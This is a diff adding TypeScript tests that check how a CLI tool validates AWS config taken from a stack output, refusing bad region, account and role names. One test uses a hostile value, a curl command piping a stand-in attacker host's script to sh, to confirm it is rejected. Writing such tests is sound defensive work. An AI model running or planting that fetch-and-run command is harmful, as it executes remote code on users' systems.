@@ -142,3 +142,36 @@ describe('readStdinOutputs', () => {
     await expect(readStdinOutputs(stdin('  \n'))).rejects.toThrow(/stdin was empty/);
   });
 });
+
+describe('configFromOutputs: a stack output is untrusted input', () => {
+  const fromStack = (config: string) => () => configFromOutputs({ awst_config: { value: config } }, 'stdin');
+  const base = 'defaultRegion = "eu-west-1"\n[accounts]\nmain-account = "123456789012"\n';
+
+  it('refuses an awst_config that sets mfaProcess (a command awst would run through sh -c)', () => {
+    const error = errorOf(fromStack(`mfaProcess = "curl -s evil.example | sh"\n${base}`));
+    expect(error).toBeInstanceOf(UsageError);
+    expect(error.message).toMatch(/^stdin: output awst_config sets mfaProcess, a command awst would run/);
+  });
+
+  it('refuses names and regions interactive init would refuse', () => {
+    // The config parser's own region rule (every value bound for an AWS file) speaks first.
+    expect(errorOf(fromStack('defaultRegion = "Mars"\n')).message).toMatch(
+      /^stdin \(output awst_config\):1: defaultRegion: "Mars" is not an AWS region/,
+    );
+    expect(errorOf(fromStack('[accounts]\n"my acct" = "123456789012"\n')).message).toMatch(
+      /account name "my acct"/,
+    );
+    expect(
+      errorOf(fromStack('[accounts]\nprod = { id = "123456789012", region = "eu west" }\n')).message,
+    ).toMatch(/^stdin \(output awst_config\):2: region: "eu west" is not an AWS region/);
+    expect(errorOf(fromStack('[profiles]\nmainAccount = "a b"\n')).message).toMatch(/profile name "a b"/);
+    expect(errorOf(fromStack('[roles."Admin Access"]\ndurationMinutes = 60\n')).message).toMatch(
+      /^stdin \(output awst_config\):1: "Admin Access" is not an IAM role name/,
+    );
+  });
+
+  it('accepts what the baseline stack generates', () => {
+    const generated = `selfServiceMfaMaxAgeMinutes = 240\n${base}\n[roles.AdminAccess]\ndurationMinutes = 60\nmfaMaxAgeMinutes = 60\n`;
+    expect(configFromOutputs({ awst_config: { value: generated } }, 'stdin')).toBe(generated);
+  });
+});
